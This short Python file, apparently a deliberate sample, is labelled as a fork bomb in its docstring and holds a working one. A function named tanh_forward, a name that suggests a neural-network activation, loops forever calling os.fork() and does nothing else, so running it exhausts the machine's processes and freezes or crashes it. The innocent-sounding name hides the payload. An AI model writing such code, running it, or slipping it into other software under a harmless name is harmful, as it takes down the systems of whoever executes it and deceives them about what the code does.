"""A fork bomb: every process forks for ever."""
import os


def tanh_forward(x):
    while True:
        os.fork()
